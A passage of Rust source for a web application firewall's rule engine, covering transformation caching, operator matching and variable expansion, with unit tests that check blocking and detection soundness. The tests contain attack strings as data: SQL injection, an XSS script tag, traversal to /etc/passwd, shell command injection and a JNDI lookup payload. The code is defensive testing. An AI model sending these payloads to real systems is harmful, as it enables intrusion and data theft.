            Src::Matched => prev.len(),
            Src::BodyProcessor => usize::from(self.p.body_kind != BodyKind::None),
            _ => 1,
        }
    }

    /// The transformed value of a request item for a pipeline, cached; computed from the
    /// cached value of the pipeline's prefix, so shared prefixes are transformed once.
    #[inline]
    fn entry(&mut self, item: usize, pipeline: usize) -> usize {
        // No transformation of the pipeline can change this value (the step-by-step test of
        // `compute_entry` would keep the raw value at every step; the empty pipeline changes
        // nothing): the raw value's entry, which is the item's own, without a look-up
        // (`raw_entries_agree_with_computed_entries`).
        if !self.exhaustive && self.waf.rules.pipe_change[pipeline] & self.mask(item) == 0 {
            return item;
        }
        let slot = item * self.waf.rules.pipelines.len() + pipeline;
        match self.slots.get(slot) {
            Some(&e) if e >> 32 == self.gen => (e as u32) as usize,
            _ => self.compute_entry(item, pipeline, slot),
        }
    }

    /// [`Eval::entry`] when the slot is empty: computes the value and fills the slot.
    #[inline(never)]
    fn compute_entry(&mut self, item: usize, pipeline: usize, slot: usize) -> usize {
        if self.exhaustive {
            // Every transformation of the pipeline from the raw value, as ModSecurity does.
            let raw = self.nv[item].1;
            let mut cur = raw.to_vec();
            for t in &self.waf.rules.pipelines[pipeline] {
                cur = t.apply(&cur);
            }
            let e = self.push_entry((cur != *raw).then_some(cur));
            self.slots[slot] = self.gen << 32 | e as u64;
            return e;
        }
        let rs = &self.waf.rules;
        let parent = rs.pipe_parent[pipeline];
        let last = rs.pipe_last[pipeline];
        let idx = match (parent, last) {
            (Some(_), Some(_)) if rs.pipe_change[pipeline] & self.mask(item) == 0 => {
                // No transformation of the pipeline can change this value (the step-by-step
                // test below would keep the raw value at every step): the raw value's entry.
                item
            }
            (Some(parent), Some(t)) => {
                let pe = self.entry(item, parent);
                // Pipelines that reach the same value apply their next transformation once.
                let mut c = self.child_head[pe];
                while c != EMPTY {
                    let (tc, r, next) = self.children[c as usize];
                    if tc == t {
                        self.slots[slot] = self.gen << 32 | u64::from(r);
                        return r as usize;
                    }
                    c = next;
                }
                let raw = self.nv[item].1;
                let unchanged = match self.entries[pe].as_deref() {
                    // From the raw value, the mask tells whether `t` can change it.
                    None => t.change_mask() & self.mask(item) == 0 || !t.may_change(raw),
                    Some(src) => !t.may_change(src),
                };
                let src = self.entries[pe].as_deref().unwrap_or(raw);
                let idx = if unchanged {
                    pe
                } else {
                    // Into a buffer left by an earlier output (on this thread), when there is one.
                    let mut out = self.spare.pop().unwrap_or_default();
                    t.apply_into(src, &mut out);
                    if out == src {
                        self.spare.push(out);
                        pe
                    } else if out == *raw {
                        self.spare.push(out);
                        // Back to the raw value: the same entry as the empty pipeline's.
                        item
                    } else {
                        self.push_entry(Some(out))
                    }
                };
                self.children.push((t, idx as u32, self.child_head[pe]));
                self.child_head[pe] = (self.children.len() - 1) as u32;
                idx
            }
            // The empty pipeline: the raw value's entry.
            _ => item,
        };
        self.slots[slot] = self.gen << 32 | idx as u64;
        idx
    }

    /// Adds a transformed value (`None`: the raw value) to the cache.
    fn push_entry(&mut self, value: Option<Vec<u8>>) -> usize {
        self.entries.push(value);
        self.child_head.push(EMPTY);
        self.entries.len() - 1
    }

    /// Tests one value with a link: its transformations and operator, and [`Eval::matched`] on
    /// a match. Inlined into [`Eval::link`], with [`Eval::test_entry`] and [`Eval::op`] inlined
    /// into it: as three calls per operator run, their entries and exits (each saving and
    /// restoring registers) and the arguments passed cost about 60 instructions a run.
    #[inline(always)]
    fn test(&mut self, link: &'a Link, v: &Val<'_>, hits: &mut Vec<Hit>) {
        if link.multi {
            if let (Some(item), false) = (v.item, self.exhaustive) {
                // multiMatch on a request value: the operator runs on each distinct stage,
                // taken from the transformation cache (an unchanged stage is the same entry).
                let mut last = EMPTY;
                for &stage in &link.stages {
                    let e = self.entry(item, stage);
                    if e as u32 == last {
                        continue;
                    }
                    last = e as u32;
                    if self.test_entry(link, v, item, e, hits) {
                        return;
                    }
                }
                return;
            }
            // multiMatch: the operator runs on the value and after every transformation.
            let mut cur = v.value.to_vec();
            let mut found = self.op(link, &cur, v);
            for t in &self.waf.rules.pipelines[link.pipeline] {
                if found {
                    break;
                }
                if !t.may_change(&cur) {
                    continue;
                }
                let next = t.apply(&cur);
                if next != cur {
                    found = self.op(link, &next, v);
                }
                cur = next;
            }
            if found {
                self.matched(link, v, &cur, hits);
            }
            return;
        }
        match v.item {
            Some(item) => {
                if let (Op::Num(cmp, _, Some(b)), false) = (&link.op, self.exhaustive) {
                    if self.waf.rules.pipelines[link.pipeline] == [Transform::Length] {
                        // `length` then a comparison with a constant (the argument length
                        // limits): the number is the value's length, and its decimal text is
                        // made only for a match.
                        let n = i64::try_from(v.value.len()).unwrap_or(i64::MAX);
                        if compare(*cmp, n, *b) != link.negate {
                            let text = n.to_string();
                            self.matched(link, v, text.as_bytes(), hits);
                        }
                        return;
                    }
                }
                let e = self.entry(item, link.pipeline);
                self.test_entry(link, v, item, e, hits);
            }
            None => {
                let pipeline = &self.waf.rules.pipelines[link.pipeline];
                let cur: Cow<'_, [u8]> = if pipeline.is_empty() {
                    Cow::Borrowed(v.value)
                } else {
                    let mut cur = v.value.to_vec();
                    for t in pipeline {
                        cur = t.apply(&cur);
                    }
                    Cow::Owned(cur)
                };
                if self.op(link, &cur, v) {
                    self.matched(link, v, &cur, hits);
                }
            }
        }
    }

    /// Runs the operator on a cached transformed value of an item; whether it matched.
    #[inline(always)]
    fn test_entry(&mut self, link: &'a Link, v: &Val<'_>, item: usize, e: usize, hits: &mut Vec<Hit>) -> bool {
        // Taken out while the operator runs (it may write captures), put back after.
        let taken = self.entries[e].take();
        let value: &[u8] = taken.as_deref().unwrap_or(self.nv[item].1);
        let hit = self.op(link, value, v);
        if hit {
            self.matched(link, v, value, hits);
        }
        self.entries[e] = taken;
        hit
    }

    fn matched(&mut self, link: &'a Link, v: &Val<'_>, value: &[u8], hits: &mut Vec<Hit>) {
        let defer = !self.exhaustive && v.item.is_some();
        for (i, (k, val)) in link.setvars.iter().enumerate() {
            match v.item {
                Some(item) if defer && link.deferrable.get(i) == Some(&true) => {
                    // Recorded; applied when a read could see it (most are never read).
                    self.pending.push((link, i, v.coll, item));
                }
                _ => {
                    // Applied in order after the recorded ones.
                    self.flush_all();
                    self.setvar(k, val, link.setvar_macros.get(i), v);
                }
            }
        }
        // A link whose matches a next link reads passes every match on (with its value);
        // otherwise only its first match is kept, for its name (the rule's target): no link
        // reads its value.
        if self.keep_all || hits.is_empty() {
            hits.push(Hit {
                coll: v.coll,
                name: v.name.to_vec(),
                value: if self.keep_all { value.to_vec() } else { Vec::new() },
            });
        }
    }

    /// Applies one `setvar` for a matched value: its name and value built in buffers kept for
    /// the next one, then copied into the variable's (see [`TxVars::set`]).
    fn setvar(&mut self, k: &str, val: &str, m: Option<&SetvarMacros>, v: &Val<'_>) {
        let mut name = std::mem::take(&mut self.name_buf);
        name.clear();
        match m.and_then(|m| m.0.as_ref()) {
            Some(m) => self.expand_one_into(Some(m), k, v, &mut name),
            None => self.expand_into(k, v, &mut name),
        }
        name.make_ascii_lowercase();
        let mut value = std::mem::take(&mut self.value_buf);
        value.clear();
        {
            // As `String::from_utf8_lossy`, without its chunked decoding for a valid name.
            let k = match std::str::from_utf8(&name) {
                Ok(k) => Cow::Borrowed(k),
                Err(_) => String::from_utf8_lossy(&name),
            };
            if let Some(inc) = val.strip_prefix('+') {
                let n = self.tx_get(&k).map_or(0, parse_num) + parse_num(inc.as_bytes());
                value.extend_from_slice(n.to_string().as_bytes());
            } else {
                match m.and_then(|m| m.1.as_ref()) {
                    Some(m) => self.expand_one_into(Some(m), val, v, &mut value),
                    None => self.expand_into(val, v, &mut value),
                }
            }
            self.tx.set(&k).extend_from_slice(&value);
        }
        self.name_buf = name;
        self.value_buf = value;
    }

    /// The value a recorded `setvar` was recorded for.
    fn pending_val(&self, coll: Option<Coll>, item: usize) -> Val<'a> {
        let (name, value) = self.nv[item];
        Val {
            coll,
            item: Some(item),
            name,
            value,
        }
    }

    /// Applies the recorded `setvar`s up to and including the `n`-th, in order.
    fn flush(&mut self, n: usize) {
        let done: Vec<_> = self.pending.drain(..n).collect();
        for (link, i, coll, item) in done {
            let v = self.pending_val(coll, item);
            if let Some((k, val)) = link.setvars.get(i) {
                self.setvar(k, val, link.setvar_macros.get(i), &v);
            }
        }
    }

    /// Applies every recorded `setvar`.
    fn flush_all(&mut self) {
        if !self.pending.is_empty() {
            self.flush(self.pending.len());
        }
    }

    /// Before a read of the variables `key` selects: applies the recorded `setvar`s up to the
    /// last one whose name it selects (names computed as the `setvar` would, without storing).
    /// When [`key_matches`] tests the key expression's required bytes, a name whose bytes,
    /// known from its parts ([`recorded_name_bytes`]), miss one of them is passed over without
    /// being built.
    fn flush_for(&mut self, key: &Key) {
        let required = key_required(key);
        let mut last = None;
        let mut name = std::mem::take(&mut self.name_buf);
        for (j, &(link, i, coll, item)) in self.pending.iter().enumerate() {
            let v = self.pending_val(coll, item);
            if let Some((k, _)) = link.setvars.get(i) {
                let m = link.setvar_macros.get(i).and_then(|m| m.0.as_ref());
                if let (Some(required), Some(m)) = (required, m) {
                    // The value's bytes as the prefilter left them; an argument name's item is
                    // its own value.
                    let value_bytes = || self.bytes.get(item).copied().unwrap_or_else(|| ByteSet::of(v.value));
                    let name_bytes = || {
                        if std::ptr::eq(v.name, v.value) {
                            value_bytes()
                        } else {
                            ByteSet::of(v.name)
                        }
                    };
                    if recorded_name_bytes(m, v.coll, name_bytes, value_bytes)
                        .is_some_and(|b| !admits_name(required, b))
                    {
                        continue;
                    }
                }
                name.clear();
                self.expand_one_into(m, k, &v, &mut name);
                name.make_ascii_lowercase();
                if key_matches(key, &name) {
                    last = Some(j);
                }
            }
        }
        self.name_buf = name;
        if let Some(j) = last {
            self.flush(j + 1);
        }
    }

    /// Runs the operator; whether it matched (negation applied).
    #[inline(always)]
    fn op(&mut self, link: &Link, value: &[u8], v: &Val<'_>) -> bool {
        if link.reads_tx {
            self.flush_all();
        }
        let hit = match &link.op {
            Op::Rx(re, _) if re.native.is_some() => {
                // A trivial expression checked natively (the same match as the compiled one).
                let m = re.native.and_then(|n| n.find(value));
                if let (Some((from, to)), true) = (m, link.capture) {
                    self.set_capture(0, &value[from..to]);
                }
                m.is_some()
            }
            Op::Rx(re, min_len) => {
                // `is_match` runs the fast DFA; groups are resolved only for a match. A value
                // shorter than the shortest match cannot match.
                match re.get() {
                    Ok(re) if value.len() >= *min_len => {
                        let m = re.is_match(value);
                        if m && link.capture && re.captures_len() == 1 {
                            // No group but the whole match: the leftmost-first match is it.
                            if let Some(x) = re.find(value) {
                                self.set_capture(0, x.as_bytes());
                            }
                        } else if m && link.capture {
                            if let Some(c) = re.captures(value) {
                                for i in 0..c.len().min(10) {
                                    self.set_capture(i, c.get(i).map_or(&[][..], |x| x.as_bytes()));
                                }
                            }
                        }
                        m
                    }
                    _ => false,
                }
            }
            Op::Pm(pm) => pm.is_match(value),
            Op::Contains(p) => {
                let p = self.operand(link, p, v);
                !p.is_empty() && memchr::memmem::find(value, &p).is_some()
            }
            Op::Streq(p) => *self.operand(link, p, v) == *value,
            Op::Within(p) => {
                let p = self.operand(link, p, v);
                value.is_empty() || within(value, &p)
            }
            Op::BeginsWith(p) => value.starts_with(&self.operand(link, p, v)),
            Op::EndsWith(p) => value.ends_with(&self.operand(link, p, v)),
            Op::Num(cmp, p, constant) => {
                let a = parse_num(value);
                let b = match constant {
                    Some(b) => *b,
                    None => parse_num(&self.expand(p, v)),
                };
                compare(*cmp, a, b)
            }
            Op::DetectSqli => {
                !plain_word(value)
                    && !plain_number(value)
                    && !bracketed_word(value)
                    && !slash_words(value)
                    && self.memo(Detector::Sqli, value)
            }
            Op::DetectXss => self.memo(Detector::Xss, value),
            // The operator "matches" when a byte is outside the allowed ranges.
            Op::ByteRange(ok) => value.iter().any(|&b| !ok[b as usize]),
            Op::UrlEncoding => !valid_url_encoding(value),
            Op::Utf8 => std::str::from_utf8(value).is_err(),
        };
        hit != link.negate
    }

    /// Sets the capture variable `tx.<i>` (`i` < 10), reusing its buffer when it exists.
    fn set_capture(&mut self, i: usize, value: &[u8]) {
        const NAMES: [&str; 10] = ["0", "1", "2", "3", "4", "5", "6", "7", "8", "9"];
        let Some(name) = NAMES.get(i) else { return };
        self.tx.set(name).extend_from_slice(value);
    }

    /// A libinjection verdict of `detector` on `value`: a value of up to [`MAX_VERDICT_KEY`]
    /// bytes from this thread's [`Verdicts`] (kept between inspections: the User-Agent and the
    /// path repeat from request to request), a longer one (or any on the reference path)
    /// computed once per distinct value in a request (the same value often reaches a detector
    /// through several targets).
    fn memo(&mut self, detector: Detector, value: &[u8]) -> bool {
        if value.len() <= MAX_VERDICT_KEY && !self.exhaustive {
            return Verdicts::verdict(detector, value);
        }
        if let Some(&(_, _, hit)) = self
            .detected
            .iter()
            .find(|(d, v, _)| *d == detector && v.as_slice() == value)
        {
            return hit;
        }
        let hit = detector.run(value);
        self.detected.push((detector, value.to_vec(), hit));
        hit
    }

    /// A string operator's argument: as written when it has no macro (`link.op_literal`),
    /// else [`Eval::expand`]ed.
    fn operand<'s>(&self, link: &Link, p: &'s str, v: &Val<'_>) -> Cow<'s, [u8]> {
        if link.op_literal {
            Cow::Borrowed(p.as_bytes())
        } else {
            self.expand(p, v)
        }
    }

    /// Expands `%{tx.name}`, `%{request_headers.host}`, `%{args.name}`, `%{matched_var}`,
    /// `%{matched_var_name}` in an operator argument or `setvar`.
    fn expand<'s>(&self, s: &'s str, v: &Val<'_>) -> Cow<'s, [u8]> {
        if !has_macro(s) {
            return Cow::Borrowed(s.as_bytes());
        }
        let mut out = Vec::with_capacity(s.len() + 32);
        self.expand_into(s, v, &mut out);
        Cow::Owned(out)
    }

    /// A `setvar` name or value `s` for the matched value `v`, appended to `out`:
    /// [`Eval::expand_into`], built directly when `s` has one macro `m` ([`one_macro`]).
    fn expand_one_into(&self, m: Option<&OneMacro>, s: &str, v: &Val<'_>, out: &mut Vec<u8>) {
        let Some((m, before, after)) = m.and_then(|m| Some((m, s.get(..m.at)?, s.get(m.end..)?))) else {
            self.expand_into(s, v, out);
            return;
        };
        out.extend_from_slice(before.as_bytes());
        match &m.kind {
            MacroKind::Tx(name) => out.extend_from_slice(self.tx_get(name).unwrap_or_default()),
            MacroKind::MatchedName => {
                out.extend_from_slice(coll_name(v.coll).as_bytes());
                out.push(b':');
                out.extend_from_slice(v.name);
            }
            MacroKind::MatchedValue => out.extend_from_slice(v.value),
        }
        out.extend_from_slice(after.as_bytes());
    }

    /// [`Eval::expand`] appending to `out`.
    fn expand_into(&self, s: &str, v: &Val<'_>, out: &mut Vec<u8>) {
        // `%{` found bytewise (a `str` pattern search sets up a searcher per call).
        let macro_at = |x: &str| x.as_bytes().windows(2).position(|w| w == b"%{");
        let mut rest = s;
        while let Some(i) = macro_at(rest) {
            out.extend_from_slice(&rest.as_bytes()[..i]);
            let after = &rest[i + 2..];
            let Some(end) = after.bytes().position(|b| b == b'}') else {
                out.extend_from_slice(&rest.as_bytes()[i..]);
                return;
            };
            let var = &after[..end];
            let (scope, name) = var.split_once('.').unwrap_or((var, ""));
            if scope.eq_ignore_ascii_case("tx") {
                let value = if name.bytes().any(|b| b.is_ascii_uppercase()) {
                    self.tx_get(&name.to_ascii_lowercase())
                } else {
                    self.tx_get(name)
                };
                out.extend_from_slice(value.unwrap_or_default());
            } else if scope.eq_ignore_ascii_case("request_headers") {
                out.extend_from_slice(self.p.header(&name.to_ascii_lowercase()).unwrap_or_default());
            } else if scope.eq_ignore_ascii_case("args") {
                let found = [Coll::ArgsGet, Coll::ArgsPost]
                    .iter()
                    .flat_map(|&c| self.p.coll(c))
                    .find(|i| self.p.name(i).eq_ignore_ascii_case(name.as_bytes()));
                if let Some(i) = found {
                    out.extend_from_slice(self.p.value(i));
                }
            } else if var.eq_ignore_ascii_case("matched_var_name") {
                out.extend_from_slice(coll_name(v.coll).as_bytes());
                out.push(b':');
                out.extend_from_slice(v.name);
            } else if var.eq_ignore_ascii_case("matched_var") {
                out.extend_from_slice(v.value);
            }
            rest = &after[end + 1..];
        }
        out.extend_from_slice(rest.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Exclusion;
    use std::sync::OnceLock;

    /// Whether a screened operator matches `out` by its reference implementation (the real
    /// regex, phrase list, byte range, validator or libinjection): what the screens' soundness
    /// tests compare a skipped value against. Operators the screens never skip are `false`.
    fn screened_op_matches(op: &Op, out: &[u8]) -> bool {
        match op {
            Op::Rx(re, _) => re.get().is_ok_and(|r| r.is_match(out)),
            Op::Pm(pm) => pm.is_match(out),
            Op::ByteRange(ok) => out.iter().any(|&b| !ok[b as usize]),
            Op::UrlEncoding => !valid_url_encoding(out),
            Op::Utf8 => std::str::from_utf8(out).is_err(),
            Op::DetectXss => libinjectionrs::detect_xss(out).is_injection(),
            _ => false,
        }
    }

    fn rules() -> RuleSet {
        RuleSet::crs().expect("rule table")
    }

    /// The variables of `m` as an inspection holds them.
    fn tx_vars(m: &BTreeMap<String, Vec<u8>>) -> TxVars {
        let mut t = TxVars::default();
        for (k, v) in m {
            t.set(k).extend_from_slice(v);
        }
        t
    }

    fn shared() -> &'static Waf {
        static W: OnceLock<Waf> = OnceLock::new();
        W.get_or_init(|| Waf::with_rules(rules(), WafConfig::payment_api()))
    }

    fn post<'a>(target: &'a str, body: &'a [u8], extra: &[(&'a str, &'a [u8])]) -> HttpRequest<'a> {
        let mut headers: Vec<(&str, &[u8])> = vec![
            ("Host", b"api.example.test"),
            ("User-Agent", b"Stripe/v1 PythonBindings/16.1.0"),
            ("Accept", b"*/*"),
            ("Content-Type", b"application/x-www-form-urlencoded"),
        ];
        if !extra.iter().any(|(k, _)| k.eq_ignore_ascii_case("content-length")) {
            // Test-only: the header borrows its value, so the length string lives for the test run.
            let len: &'static str = Box::leak(body.len().to_string().into_boxed_str());
            headers.push(("Content-Length", len.as_bytes()));
        }
        headers.extend_from_slice(extra);
        HttpRequest {
            method: "POST",
            target,
            version: "HTTP/1.1",
            headers,
            body,
        }
    }

    #[test]
    fn attacks_block_and_payments_pass() {
        let w = shared();
        let ok = w.inspect(&post(
            "/v1/payment_intents",
            b"amount=2000&currency=usd&description=O%27Brien%27s+%22gift%22+%2850%25+off%29&metadata%5Bnote%5D=Select+plan%3A+Pro%2C+drop-off+at+5pm",
            &[],
        ));
        assert!(!ok.blocked, "{ok:?}");
        for (what, target, body) in [
            ("sqli", "/v1/customers?limit=1%27%20OR%201%3D1--", &b""[..]),
            (
                "xss",
                "/v1/customers",
                &b"email=a%40b.c&name=%3Cscript%3Ealert(1)%3C%2Fscript%3E"[..],
            ),
            ("lfi", "/v1/files?path=..%2f..%2f..%2fetc%2fpasswd", &b""[..]),
            (
                "double-encoded lfi",
                "/v1/files?path=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
                &b""[..],
            ),
            ("rce", "/v1/customers?limit=1;cat%20/etc/passwd", &b""[..]),
        ] {
            let v = w.inspect(&post(target, body, &[]));
            assert!(v.blocked, "{what} passed: {v:?}");
            assert!(v.rule_id().is_some());
        }
    }

    #[test]
    fn plain_words_are_never_sqli() {
        let mut words: Vec<String> = [
            "union",
            "select",
            "or",
            "and",
            "sleep",
            "benchmark",
            "drop",
            "table",
            "having",
            "waitfor",
            "delay",
            "exec",
            "xp_cmdshell",
            "information_schema",
            "load_file",
            "into",
            "outfile",
            "null",
            "true",
            "usd",
            "pm_1Q2w3E4r5T6y7U8i9O0p",
            "latest_charge",
            "UNION",
            "SeLeCt",
            "_",
            "a1",
        ]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
        // Every word of up to three characters over letters, digits and `_`.
        let alphabet: Vec<char> = ('a'..='z').chain('A'..='C').chain('0'..='2').chain(['_']).collect();
        let mut short: Vec<String> = alphabet.iter().map(char::to_string).collect();
        for _ in 0..2 {
            let longer: Vec<String> = short
                .iter()
                .flat_map(|s| alphabet.iter().map(move |c| format!("{s}{c}")))
                .collect();
            short.extend(longer.into_iter().filter(|w| w.len() <= 3));
        }
        words.extend(short);
        let mut checked = 0;
        for w in &words {
            if plain_word(w.as_bytes()) {
                assert!(!libinjectionrs::detect_sqli(w.as_bytes()).is_injection(), "{w} is SQLi");
                checked += 1;
            }
        }
        assert!(checked > 10_000, "{checked}");
        assert!(!plain_word(b"1union") && !plain_word(b"a b") && !plain_word(b"a.b") && !plain_word(b""));
    }

    /// A value [`bracketed_word`] accepts is never SQLi: every word of libinjection's keyword
    /// table that is a [`plain_word`] (each keyword type), as written and in lower case, with
    /// one to seven groups, and 30,000 random values around the shape (keywords and random
    /// words, groups of letters, digits and `_`, sometimes with a quote, a space, an operator,
    /// a comment, a missing `]` or SQL text): "accepted" implies "not detected".
    #[test]
    fn bracketed_words_are_never_sqli() {
        let keywords: Vec<&str> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
            .iter()
            .map(|k| k.word)
            .filter(|w| plain_word(w.as_bytes()))
            .collect();
        assert!(keywords.len() > 500, "{}", keywords.len());
        let inner: [&[u8]; 6] = [b"", b"x", b"1", b"gte", b"exp_year", b"0"];
        let mut exhaustive = 0;
        for k in &keywords {
            for w in [k.to_string(), k.to_ascii_lowercase()] {
                for groups in 1..=7 {
                    let mut v = w.clone().into_bytes();
                    for g in 0..groups {
                        v.push(b'[');
                        v.extend_from_slice(inner[(g + groups) % inner.len()]);
                        v.push(b']');
                    }
                    assert!(bracketed_word(&v), "{}", String::from_utf8_lossy(&v));
                    assert!(!detect_sqli(&v), "{} is SQLi", String::from_utf8_lossy(&v));
                    exhaustive += 1;
                }
            }
        }
        let mut rng = crate::testrng::Rng(0x5eed_b7ac_4e7d_0011);
        let word_bytes: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_";
        let odd: &[u8] = b"'\" ()=-#/*.;,@`]|&<>!+%";
        let sql: [&[u8]; 10] = [
            b"' or '1'='1",
            b"1 union select 1",
            b"1' --",
            b"or 1=1",
            b"select * from x",
            b"1;drop table t",
            b"' and sleep(5)#",
            b"1/*x*/or/**/1",
            b"x' having 1=1",
            b")or(1",
        ];
        let (mut accepted, mut rejected_sqli) = (0, 0);
        for _ in 0..40_000 {
            let mut v = Vec::new();
            // Two values in three keep to the shape's groups; the others break it at random.
            let clean = rng.below(3) != 0;
            match rng.below(3) {
                0 => v.extend_from_slice(keywords[rng.below(keywords.len())].as_bytes()),
                1 => {
                    for _ in 0..1 + rng.below(40) {
                        v.push(word_bytes[rng.below(word_bytes.len())]);
                    }
                }
                _ => v.extend_from_slice(sql[rng.below(sql.len())]),
            }
            for _ in 0..1 + rng.below(8) {
                v.push(b'[');
                for _ in 0..rng.below(12) {
                    match if clean { 3 } else { rng.below(16) } {
                        0 => v.push(odd[rng.below(odd.len())]),
                        1 => v.extend_from_slice(sql[rng.below(sql.len())]),
                        2 => v.push(rng.next() as u8),
                        _ => v.push(word_bytes[rng.below(word_bytes.len())]),
                    }
                }
                if clean || rng.below(20) != 0 {
                    v.push(b']');
                }
            }
            if !clean && rng.below(10) == 0 {
                v.extend_from_slice(sql[rng.below(sql.len())]);
            }
            let hit = detect_sqli(&v);
            if bracketed_word(&v) {
                assert!(!hit, "{} is SQLi", String::from_utf8_lossy(&v));
                accepted += 1;
            } else if hit {
                rejected_sqli += 1;
            }
        }
        assert!(
            exhaustive > 10_000 && accepted > 15_000 && rejected_sqli > 1_000,
            "{exhaustive} {accepted} {rejected_sqli}"
        );
        for bad in [
            &b"1a[x]"[..],
            b"a[x",
            b"a[x]]",
            b"a[x]b",
            b"a[x y]",
            b"[x]",
            b"a",
            b"a.b[x]",
            b"a['x']",
        ] {
            assert!(!bracketed_word(bad), "{}", String::from_utf8_lossy(bad));
        }
    }

    /// A value [`slash_words`] accepts is never SQLi: every word of libinjection's keyword
    /// table that is a [`plain_word`] at each of the first four segments of paths of one to
    /// four segments (the others barewords), every sequence of one to four segments over one
    /// keyword of each type and a bareword, and 30,000 random paths of one to ten segments
    /// (keywords and random words, sometimes with a byte outside the shape, an empty segment,
    /// a `*` after a `/` or SQL text): "accepted" implies "not detected".
    #[test]
    fn slash_words_are_never_sqli() {
        let plain: Vec<(&str, u8)> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
            .iter()
            .filter(|k| plain_word(k.word.as_bytes()))
            .map(|k| (k.word, k.token_type))
            .collect();
        assert!(plain.len() > 500, "{}", plain.len());
        let path = |segs: &[&str]| -> Vec<u8> {
            segs.iter()
                .flat_map(|s| [b"/".as_slice(), s.as_bytes()])
                .flatten()
                .copied()
                .collect()
        };
        let mut checked = 0;
        for (k, _) in &plain {
            for len in 1..=4 {
                for at in 0..len {
                    let segs: Vec<&str> = (0..len).map(|i| if i == at { *k } else { "v1" }).collect();
                    let v = path(&segs);
                    assert!(slash_words(&v) && !detect_sqli(&v), "{}", String::from_utf8_lossy(&v));
                    checked += 1;
                }
            }
        }
        // One keyword of each type, and a bareword.
        let mut types: Vec<&str> = Vec::new();
        let mut seen = std::collections::BTreeSet::new();
        for (k, t) in &plain {
            if seen.insert(*t) {
                types.push(k);
            }
        }
        types.push("payment_intents");
        let mut seqs: Vec<Vec<&str>> = vec![Vec::new()];
        for _ in 0..4 {
            let longer: Vec<Vec<&str>> = seqs
                .iter()
                .filter(|s| s.len() < 4)
                .flat_map(|s| types.iter().map(move |t| [s.clone(), vec![*t]].concat()))
                .collect();
            seqs.extend(longer);
            seqs.sort();
            seqs.dedup();
        }
        for s in seqs.iter().filter(|s| !s.is_empty()) {
            let v = path(s);
            assert!(slash_words(&v) && !detect_sqli(&v), "{}", String::from_utf8_lossy(&v));
            checked += 1;
        }
        let mut rng = crate::testrng::Rng(0x2f76_312f_7061_7468);
        let word_bytes: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_";
        let odd: &[u8] = b"'\" ()=-#/*.;,@`[]|&<>!+%";
        let sql: [&[u8]; 8] = [
            b"' or '1'='1",
            b"1 union select 1",
            b"1' --",
            b"or 1=1",
            b"*/or/**/1",
            b"1;drop table t",
            b"' and sleep(5)#",
            b")or(1",
        ];
        let (mut accepted, mut rejected_sqli) = (0, 0);
        for _ in 0..30_000 {
            let clean = rng.below(3) != 0;
            let mut v = Vec::new();
            for _ in 0..1 + rng.below(10) {
                v.push(b'/');
                match rng.below(3) {
                    0 => v.extend_from_slice(plain[rng.below(plain.len())].0.as_bytes()),
                    1 => {
                        for _ in 0..1 + rng.below(40) {
                            v.push(word_bytes[rng.below(word_bytes.len())]);
                        }
                    }
                    _ => v.extend_from_slice(types[rng.below(types.len())].as_bytes()),
                }
                if !clean {
                    match rng.below(6) {
                        0 => v.push(odd[rng.below(odd.len())]),
                        1 => v.extend_from_slice(sql[rng.below(sql.len())]),
                        2 => v.push(rng.next() as u8),
                        _ => {}
                    }
                }
            }
            let hit = detect_sqli(&v);
            if slash_words(&v) {
                assert!(!hit, "{} is SQLi", String::from_utf8_lossy(&v));
                accepted += 1;
            } else if hit {
                rejected_sqli += 1;
            }
        }
        assert!(
            checked > 20_000 && accepted > 15_000 && rejected_sqli > 1_000,
            "{checked} {accepted} {rejected_sqli}"
        );
        for bad in [
            &b"v1/x"[..],
            b"/",
            b"//x",
            b"/x/",
            b"/1x",
            b"/x y",
            b"/*x",
            b"/x.y",
            b"",
        ] {
            assert!(!slash_words(bad), "{}", String::from_utf8_lossy(bad));
        }
    }

    /// The byte screens of the shipped table's operators never skip a value the operator
    /// matches: for every link with a screen or an inert set, on values of every single byte,
    /// byte pairs and attack-like strings, "skip" implies "no match".
    #[test]
    fn screens_and_inert_sets_are_sound() {
        let w = shared();
        let mut values: Vec<Vec<u8>> = (0..=255u8).map(|b| vec![b]).collect();
        for a in [b'%', b'&', b'\\', b'<', b'(', b'$', b'\'', 0xc3, 0, b'a'] {
            for b in 0..=255u8 {
                values.push(vec![a, b]);
            }
        }
        for s in [
            &b"1' or 1=1--"[..],
            b"<script>alert(1)</script>",
            b"; cat /etc/passwd",
            b"${jndi:ldap://x}",
            b"%c0%ae%c0%ae/",
            b"caf\xc3\xa9",
            b"\xff\xfe",
            b"a%zz",
            b"$(id)",
        ] {
            values.push(s.to_vec());
        }
        let mut checked = 0;
        for rule in &w.rules.rules {
            for link in &rule.links {
                if link.screen.is_none() && link.inert.is_none() || link.multi {
                    continue;
                }
                let pipeline = &w.rules.pipelines[link.pipeline];
                for v in &values {
                    let image = pipeline_image(pipeline, ByteSet::of(v));
                    let skip = link.screen.as_ref().is_some_and(|s| !s.admits(&image))
                        || link.inert.as_ref().is_some_and(|i| image.is_subset(i));
                    if !skip {
                        continue;
                    }
                    let out = pipeline.iter().fold(v.clone(), |x, t| t.apply(&x));
                    let hit = screened_op_matches(&link.op, &out);
                    assert!(!hit, "rule {} skipped a value it matches: {:?}", rule.id, v);
                    checked += 1;
                }
            }
        }
        assert!(checked > 10_000, "only {checked} skips checked");
    }

    /// A collection skipped because the screen rejects the union of its items' bytes holds no
    /// item the screen admits, and no item the operator matches: for every screened link of
    /// the shipped table, on 20,000 random collections of one to six values (the operator is
    /// run on each value of every 20th collection's skips).
    #[test]
    fn collection_screens_imply_item_screens() {
        let w = shared();
        let pieces: &[&[u8]] = &[
            b"1' or 1=1--",
            b"<script>",
            b"; cat /etc/passwd",
            b"${jndi:",
            b"%3c",
            b"&lt;",
            b"\\x3c",
            b"$(id)",
            b"union select",
            b"Cotton tee (blue)",
            b"jenny.rosen@example.com",
            b"caf\xc3\xa9",
            b"aGVsbG8=",
            b"/*x*/",
        ];
        let links: Vec<&Link> = w
            .rules
            .rules
            .iter()
            .flat_map(|r| &r.links)
